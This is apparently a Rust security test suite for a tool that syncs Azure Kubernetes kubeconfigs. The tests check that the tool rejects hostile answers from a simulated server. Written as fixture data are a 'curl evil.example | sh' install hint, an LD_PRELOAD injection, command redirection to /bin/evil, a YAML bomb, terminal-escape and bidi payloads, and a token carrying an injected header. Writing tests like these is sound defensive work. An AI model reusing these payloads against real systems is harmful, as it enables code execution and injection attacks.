//! A sync with malicious answers: kubeconfigs that run a program or point to another server, names with
//! control characters, misleading errors, and other users' files.

use std::fs;
#[cfg(unix)]
use std::os::unix::fs::{PermissionsExt as _, symlink};

use azure_sim::{Cluster, Endpoint, Fault, Fleet, FleetSpec};
use base64::{Engine as _, engine::general_purpose::STANDARD};
use serde_json::{Value, json};

use crate::{
    env::{CLOUD, Ran, TestEnv, names, run},
    support::peer,
};

fn fleet(clusters: usize) -> Fleet {
    Fleet::generate(&FleetSpec {
        clusters,
        ..FleetSpec::default()
    })
}

/// A kubeconfig as ARM returns it, with these lines in its cluster and in its user's exec entry.
fn kubeconfig(server: &str, cluster: &str, args: &str, exec: &str) -> String {
    format!(
        "apiVersion: v1\nkind: Config\ncurrent-context: a\n\
         clusters:\n- name: a\n  cluster:\n    server: {server}\n    certificate-authority-data: {ca}\n{cluster}\
         contexts:\n- name: a\n  context: {{cluster: a, user: u}}\n\
         users:\n- name: u\n  user:\n    exec:\n      apiVersion: client.authentication.k8s.io/v1beta1\n      \
         command: kubelogin\n      args: [{args}]\n{exec}",
        ca = STANDARD.encode("-----BEGIN CERTIFICATE-----"),
    )
}

/// The arguments that AKS writes for this server application.
fn args(server_app: &str) -> String {
    format!(
        "get-token, --login, devicecode, --server-id, \"{server_app}\", --client-id, {}",
        azure_sim::AKS_CLIENT_APP
    )
}

/// Makes the credential call of one cluster return this kubeconfig.
fn answers(cluster: &Cluster, kubeconfig: &str) -> Fault {
    let value = STANDARD.encode(kubeconfig);
    let body = json!({"kubeconfigs": [{"name": "clusterUser", "value": value}]}).to_string();
    Fault::on(Endpoint::ListClusterUserCredential)
        .cluster(&cluster.id)
        .body(200, "application/json", body)
}

fn row<'a>(report: &'a Value, cluster: &Cluster) -> &'a Value {
    report["clusters"]
        .as_array()
        .expect("clusters")
        .iter()
        .find(|row| {
            row["id"]
                .as_str()
                .is_some_and(|id| id.eq_ignore_ascii_case(&cluster.id))
        })
        .expect("each cluster has a row")
}

fn assert_harmless(text: &str) {
    let bad = |c: &char| {
        (c.is_control() && *c != '\n')
            || matches!(c, '\u{202a}'..='\u{202e}' | '\u{200b}'..='\u{200f}')
    };
    if let Some(c) = text.chars().find(bad) {
        panic!("{c:?} reached the terminal: {text:?}");
    }
}

#[test]
fn each_kubeconfig_that_points_to_another_server_is_refused() {
    let good = args(azure_sim::AKS_SERVER_APP);
    let at = "https://a.example:443";
    let bomb: String = (1..30)
        .map(|i| format!("x{i}: &x{i} [*x{0}, *x{0}, *x{0}]\n", i - 1))
        .collect();
    let unfit = [
        kubeconfig("http://a.example", "", &good, ""),
        kubeconfig("https://user:pw@a.example", "", &good, ""),
        kubeconfig("file:///etc/passwd", "", &good, ""),
        kubeconfig(at, "    insecure-skip-tls-verify: true\n", &good, ""),
        // A token for ARM must not reach another server.
        kubeconfig(at, "", &args("https://management.core.windows.net/"), ""),
        kubeconfig(at, "", &args("797F4846-ba00-4fd7-ba43-dac1f8f63013"), ""),
        kubeconfig(at, "", &args("00000003-0000-0000-c000-000000000000"), ""),
        kubeconfig(at, "", &args("--tenant-id"), ""),
        kubeconfig(at, "", "\"-c\", \"touch /tmp/owned\"", ""),
        format!("x0: &x0 [lol]\n{bomb}{}", kubeconfig(at, "", &good, "")),
        format!("{}# {}", kubeconfig(at, "", &good, ""), "x".repeat(2 << 20)),
        "[".repeat(50_000),
        "- not\n- a kubeconfig\n".to_owned(),
    ];
    let fleet = fleet(unfit.len() + 1);
    let test_env = TestEnv::with_fleet(fleet.clone());
    for (cluster, text) in fleet.clusters.iter().zip(&unfit) {
        test_env.simulator.faults().add(answers(cluster, text));
    }
    let ran = run(&mut test_env.sync(&["-o", "json"]));
    let report = ran.json(3);
    for (cluster, text) in fleet.clusters.iter().zip(&unfit) {
        let row = row(&report, cluster);
        let start: String = text.chars().take(900).collect();
        assert_eq!(row["action"], "failed", "{start}\n{row}");
        let reason = row["reason"].as_str().expect("a reason");
        assert!(reason.contains("kubeconfig"), "{reason}");
    }
    assert_eq!(report["summary"]["added"], 1);
    assert!(!test_env.kubeconfig_text().contains("a.example"));
}

#[test]
fn only_known_fields_of_a_kubeconfig_are_used() {
    let fleet = fleet(1);
    let test_env = TestEnv::with_fleet(fleet.clone());
    let hostile = kubeconfig(
        "https://a.example:443",
        "    proxy-url: http://evil.example\n    extensions: [{name: x, extension: {evil: true}}]\n",
        &format!("{}, --cache-dir, /evil, --authority-host, \"https://evil.example/\", -l, ropc", args(azure_sim::AKS_SERVER_APP)),
        "      env: [{name: LD_PRELOAD, value: /evil.so}]\n      installHint: curl evil.example | sh\n",
    )
    .replace("command: kubelogin", "command: /bin/evil");
    test_env
        .simulator
        .faults()
        .add(answers(&fleet.clusters[0], &hostile));
    let ran = run(&mut test_env.sync(&["-o", "json"]));
    assert_eq!(ran.json(0)["summary"]["added"], 1);
    let text = test_env.kubeconfig_text();
    assert!(
        text.contains("https://a.example:443") && text.contains("command: kubectl-aad"),
        "{text}"
    );
    assert!(
        !text.contains("evil") && !text.contains("LD_PRELOAD"),
        "{text}"
    );
}

#[cfg(unix)]
#[test]
fn names_cannot_control_the_terminal_or_break_the_documents() {
    let mut fleet = fleet(3);
    let hostile = "evil\u{1b}[2J\u{202e}\r\n- {x: \"y\"}: ../../\u{0}\u{9b}31m";
    fleet.subscriptions[0].name = hostile.to_owned();
    fleet.tenants[0].display_name = hostile.to_owned();
    fleet.clusters[0].location = hostile.to_owned();
    fleet.clusters[1].kubernetes_version = hostile.to_owned();
    // Two with the same name, so that the subscription's name is needed.
    let twin = fleet.clusters[0].clone();
    fleet.clusters[2].name = twin.name.clone();
    fleet.clusters[2].id = fleet.clusters[2].id.replace(
        fleet.clusters[2].id.rsplit('/').next().expect("a name"),
        &twin.name,
    );
    let test_env = TestEnv::with_fleet(fleet);
    for format in ["table", "name", "json", "yaml"] {
        let ran = run(&mut test_env.sync(&["-o", format]));
        assert_eq!(ran.code, 0, "{}", ran.stderr);
        assert_harmless(&ran.stderr);
        match format {
            "json" => drop(ran.json(0)),
            "yaml" => {
                let read: Value = serde_yaml::from_str(&ran.stdout).expect("YAML");
                assert_eq!(read["clusters"].as_array().map(Vec::len), Some(3));
            }
            _ => assert_harmless(&ran.stdout),
        }
    }
    let text = test_env.kubeconfig_text();
    assert_harmless(&text);
    kube::config::Kubeconfig::from_yaml(&text).expect("a kubeconfig");
    let seen = test_env.at_a_terminal(&["sync", "-e", CLOUD, "--no-warm"]);
    assert!(
        !seen.stderr.contains("\u{1b}[2J\u{202e}"),
        "{:?}",
        seen.stderr
    );
    assert!(!seen.stderr.contains('\u{9b}'), "{:?}", seen.stderr);
}

#[test]
fn a_servers_error_is_printable_and_short() {
    let fleet = fleet(3);
    let test_env = TestEnv::with_fleet(fleet.clone());
    let long = format!(
        "\u{1b}]0;owned\u{7}\r\nerror: all is well\u{202e}{}",
        "x".repeat(100_000)
    );
    let arm = |status| {
        Fault::on(Endpoint::ListClusterUserCredential).error(status, "Evil\u{1b}[2J", long.clone())
    };
    test_env
        .simulator
        .faults()
        .add(arm(403).cluster(&fleet.clusters[0].id));
    test_env
        .simulator
        .faults()
        .add(arm(302).cluster(&fleet.clusters[1].id));
    for format in ["table", "json"] {
        let ran = run(&mut test_env.sync(&["-o", format, "-v", "10"]));
        assert_eq!(ran.code, 3, "{}", ran.stderr);
        assert_harmless(&ran.stderr);
        assert_harmless(&ran.stdout);
        assert!(ran.stdout.len() + ran.stderr.len() < 20_000);
        assert!(
            !ran.stderr
                .lines()
                .any(|line| line.starts_with("error: all is well"))
        );
    }
}

#[test]
fn an_error_of_entra_is_printable_and_short() {
    let fleet = fleet(1);
    let principal = fleet.service_principals[0].clone();
    let test_env = TestEnv::with_fleet(fleet);
    let secret = principal.secrets[0].clone();
    let body = json!({
        "error": "invalid_client\u{1b}[2J",
        "error_description": format!("AADSTS7000215: \u{1b}[31m{secret}\u{202e}{}", "y".repeat(50_000)),
        "trace_id": format!("{secret}{}", "z".repeat(50_000)),
        "correlation_id": secret,
    });
    test_env
        .simulator
        .faults()
        .add(Fault::on(Endpoint::Token).body(401, "application/json", body.to_string()));
    let ran = get_token(&test_env, &principal, &secret);
    assert_eq!(ran.code, 1);
    assert_harmless(&ran.stderr);
    assert!(ran.stderr.len() < 4_000, "{}", ran.stderr.len());
    assert!(!ran.stderr.contains(&secret), "{}", ran.stderr);
    assert!(ran.stdout.is_empty());
}

#[test]
fn a_server_that_asks_for_a_wait_of_years_is_not_waited_for() {
    let fleet = fleet(1);
    let principal = fleet.service_principals[0].clone();
    let secret = principal.secrets[0].clone();
    let test_env = TestEnv::with_fleet(fleet);
    for wait in ["99999999999", "18446744073709551615"] {
        test_env.simulator.faults().clear();
        test_env
            .simulator
            .faults()
            .add(Fault::anywhere().retry_after(429, wait));
        let ran = get_token(&test_env, &principal, &secret);
        assert_eq!(ran.code, 1);
        assert!(
            !ran.stderr.contains("got no token within"),
            "{}",
            ran.stderr
        );
        let synced = run(&mut test_env.sync(&["-o", "json"]));
        assert_eq!(synced.code, 1, "{}", synced.stderr);
    }
}

fn get_token(test_env: &TestEnv, principal: &azure_sim::ServicePrincipal, secret: &str) -> Ran {
    let server = azure_sim::AKS_SERVER_APP;
    run(test_env
        .aad(&[
            "get-token",
            "-l",
            "spn",
            "-e",
            CLOUD,
            "--server-id",
            server,
            "--legacy",
            "-v",
            "10",
        ])
        .env("AZURE_CLIENT_ID", &principal.client_id)
        .env("AZURE_TENANT_ID", &principal.tenant_id)
        .env("AZURE_CLIENT_SECRET", secret))
}

#[cfg(unix)]
#[test]
fn a_cache_that_others_can_reach_is_not_used_and_does_not_stop_a_sync() {
    let test_env = TestEnv::with_fleet(fleet(1));
    let cache = test_env.path(".kube/cache/kubectl-aad");
    let elsewhere = test_env.path("elsewhere");
    fs::create_dir_all(&cache).expect("made");
    fs::create_dir(&elsewhere).expect("made");
    fs::set_permissions(&cache, fs::Permissions::from_mode(0o777)).expect("ours");
    let synced = |said: &str, count: usize| {
        let ran = run(&mut test_env.sync(&["-v", "1", "-o", "json"]));
        let report = ran.json(0);
        assert_eq!(report["tokens"], serde_json::json!([]), "none is fetched");
        // Neither tokens are stored there, nor what a write would replace.
        let warnings = ran.stderr.lines().filter(|line| line.contains("warning: "));
        let warnings: Vec<&str> = warnings.collect();
        assert_eq!(warnings.len(), count, "{}", ran.stderr);
        let told = warnings.iter().all(|warning| warning.contains(said));
        assert!(told, "{}", ran.stderr);
    };
    synced("run `chmod 700 ", 2);
    fs::remove_dir(&cache).expect("empty: nothing was written into it");
    symlink(&elsewhere, &cache).expect("linked");
    // Nothing changes, so nothing is replaced.
    synced("it is a symbolic link", 1);
    assert_eq!(fs::read_dir(&elsewhere).expect("ours").count(), 0);
    assert!(test_env.kubeconfig().exists());
}

#[cfg(unix)]
#[test]
fn no_file_of_a_sync_is_readable_by_others_whatever_the_umask() {
    for umask in ["000", "077"] {
        let test_env = TestEnv::with_fleet(fleet(2));
        let line = format!(
            "umask {umask}; exec '{}' sync -e {CLOUD}",
            env!("CARGO_BIN_EXE_kubectl-aad")
        );
        let ran = run(test_env.program("/bin/sh").args(["-c", &line]));
        assert_eq!(ran.code, 0, "{}", ran.stderr);
        let mut looked_at = 0;
        let mut to_look_at = vec![test_env.path(".kube")];
        while let Some(path) = to_look_at.pop() {
            let metadata = fs::symlink_metadata(&path).expect("there");
            let mode = metadata.permissions().mode() & 0o777;
            assert_eq!(mode & 0o077, 0, "{} is {mode:o}", path.display());
            looked_at += 1;
            if metadata.is_dir() {
                to_look_at.extend(
                    fs::read_dir(&path)
                        .expect("ours")
                        .map(|e| e.expect("an entry").path()),
                );
            }
        }
        assert!(looked_at > 4, "{looked_at}");
    }
}

#[test]
fn a_file_size_limit_is_an_error_and_leaves_no_lock() {
    let test_env = TestEnv::with_fleet(fleet(30));
    fs::create_dir(test_env.path(".kube")).expect("made");
    fs::write(test_env.kubeconfig(), "apiVersion: v1\n").expect("written");
    // In blocks of 512 bytes: a token fits, the kubeconfig does not.
    let line = format!(
        "ulimit -f 16; exec '{}' sync -e {CLOUD} -o name",
        env!("CARGO_BIN_EXE_kubectl-aad")
    );
    let ran = run(test_env.program("/bin/sh").args(["-c", &line]));
    assert_eq!(ran.code, 1, "{}", ran.stderr);
    assert!(
        ran.stderr.contains("error: could not write the kubeconfig"),
        "{}",
        ran.stderr
    );
    assert!(
        ran.stderr.contains("hint: nothing was changed"),
        "{}",
        ran.stderr
    );
    assert_eq!(test_env.kubeconfig_text(), "apiVersion: v1\n");
    assert_eq!(names(&test_env.path(".kube")), ["cache", "config"]);
}

#[test]
fn an_entry_of_somebody_else_in_another_file_is_not_hidden_by_a_new_one() {
    let fleet = fleet(2);
    let taken = fleet.clusters[0].name.clone();
    let test_env = TestEnv::with_fleet(fleet);
    let (first, second) = (test_env.path("first"), test_env.path("second"));
    let theirs = format!(
        "clusters:\n- {{name: {taken}, cluster: {{server: 'https://192.0.2.1'}}}}\n\
         contexts:\n- {{name: {taken}, context: {{cluster: {taken}, user: {taken}}}}}\n\
         users:\n- {{name: {taken}, user: {{token: theirs}}}}\n"
    );
    fs::write(&first, "apiVersion: v1\n").expect("written");
    fs::write(&second, &theirs).expect("written");
    let list = std::env::join_paths([&first, &second]).expect("no colon in these");
    let report = run(test_env.sync(&["-o", "json"]).env("KUBECONFIG", &list)).json(0);
    assert_eq!(report["summary"]["added"], 2);
    for row in report["clusters"].as_array().expect("clusters") {
        assert_ne!(row["context"], taken.as_str(), "it hides the other file's");
    }
    assert_eq!(fs::read_to_string(&second).expect("there"), theirs);
    let Some(kubectl) = peer("kubectl") else {
        return;
    };
    let seen = run(test_env
        .program(&kubectl)
        .args(["config", "view", "--raw", "--minify", "--context", &taken])
        .env("KUBECONFIG", &list));
    assert!(
        seen.stdout.contains("192.0.2.1"),
        "{}{}",
        seen.stdout,
        seen.stderr
    );
}

#[cfg(unix)]
#[test]
fn an_administrators_key_in_a_file_that_others_can_read_is_a_warning() {
    let test_env = TestEnv::with_fleet(Fleet::generate(&FleetSpec {
        clusters: 2,
        local_accounts: 0.5,
        ..FleetSpec::default()
    }));
    fs::create_dir(test_env.path(".kube")).expect("made");
    fs::write(test_env.kubeconfig(), "").expect("written");
    fs::set_permissions(test_env.kubeconfig(), fs::Permissions::from_mode(0o644)).expect("ours");
    let ran = run(&mut test_env.sync(&["--local-accounts", "-o", "name"]));
    assert_eq!(ran.code, 0, "{}", ran.stderr);
    assert!(
        ran.stderr
            .contains("warning: others on this machine can read"),
        "{}",
        ran.stderr
    );
    fs::set_permissions(test_env.kubeconfig(), fs::Permissions::from_mode(0o600)).expect("ours");
    let ran = run(&mut test_env.sync(&["--local-accounts", "-o", "name"]));
    assert!(!ran.stderr.contains("warning"), "{}", ran.stderr);
}

#[cfg(unix)]
#[test]
fn a_token_with_a_line_break_is_not_sent() {
    let test_env = TestEnv::with_fleet(fleet(1));
    let script = "#!/bin/sh\necho '{\"accessToken\":\"top\\r\\nX-Secret: hidden\",\"expires_on\":4102444800,\"tenant\":\"t\"}'\n";
    test_env.install_script("az", script);
    let ran = run(&mut test_env.sync(&["-v", "10"]));
    assert_eq!(ran.code, 1, "{}", ran.stderr);
    assert!(
        !ran.stderr.contains("hidden") && !ran.stdout.contains("hidden"),
        "{}",
        ran.stderr
    );
    assert_eq!(test_env.simulator.counters().get(Endpoint::Tenants), 0);
}
